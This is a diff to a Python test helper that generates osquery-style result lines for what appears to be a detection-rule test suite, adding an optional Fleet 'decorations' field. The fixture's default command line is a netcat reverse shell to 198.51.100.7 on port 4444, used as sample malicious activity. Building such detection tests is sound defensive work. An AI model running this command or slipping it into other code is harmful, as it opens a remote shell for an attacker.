@@ -132,8 +132,16 @@ rules:
     return path
 
 
-def result_line(n: int, *, host: str = "web-01", cmdline: str = "", name: str = "nc") -> str:
-    """One differential result line whose row connects to port 4444 (pid 1000 + n)."""
+def result_line(
+    n: int,
+    *,
+    host: str = "web-01",
+    cmdline: str = "",
+    name: str = "nc",
+    decorations: dict[str, str] | None = None,
+) -> str:
+    """One differential result line whose row connects to port 4444 (pid 1000 + n),
+    with ``decorations`` when given (Fleet: ``host_uuid``, ``hostname``)."""
     columns = {
         "cmdline": cmdline or f"nc -e /bin/sh 198.51.100.7 4444 #{n}",
         "direction": "outbound",
@@ -160,6 +168,8 @@ def result_line(n: int, *, host: str = "web-01", cmdline: str = "", name: str = 
         "columns": columns,
         "action": "added",
     }
+    if decorations is not None:
+        doc["decorations"] = decorations
     return json.dumps(doc) + "\n"
 
 
